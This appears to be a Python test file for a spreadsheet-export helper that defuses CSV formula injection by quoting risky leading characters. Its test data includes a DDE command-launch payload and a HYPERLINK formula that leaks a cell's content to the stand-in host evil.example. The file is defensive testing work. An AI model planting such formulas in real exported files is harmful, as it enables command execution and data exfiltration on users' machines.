"""Cells that a spreadsheet would run as formulas are written as text; everything else as it was."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from llm_responses.wire.spreadsheet import dict_writer, safe_cell, safe_row


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_starting_like_a_formula_is_prefixed_with_a_quote(lead):
    assert safe_cell(f"{lead}cmd|' /C calc'!A0") == f"'{lead}cmd|' /C calc'!A0"


@pytest.mark.parametrize("value", [-5, -0.5, Decimal("-1.25"), 0, True, None, "", "plain text", "a=b", "'=x"])
def test_numbers_and_harmless_text_are_left_as_they_are(value):
    assert safe_cell(value) == value and type(safe_cell(value)) is type(value)


def test_the_writer_neutralises_every_row_and_keeps_numbers():
    buffer = io.StringIO()
    writer = dict_writer(buffer, ["text", "cost"])
    writer.writeheader()
    writer.writerow({"text": '=HYPERLINK("http://evil.example/?x="&A1,"x")', "cost": -0.25})
    writer.writerows([{"text": "@SUM(1+1)", "cost": 3}, {"text": "fine", "cost": 0}])
    assert safe_row({"a": "-1", "b": 2}) == {"a": "'-1", "b": 2}
    rows = list(csv.DictReader(io.StringIO(buffer.getvalue())))
    assert rows == [
        {"text": '\'=HYPERLINK("http://evil.example/?x="&A1,"x")', "cost": "-0.25"},
        {"text": "'@SUM(1+1)", "cost": "3"},
        {"text": "fine", "cost": "0"},
    ]
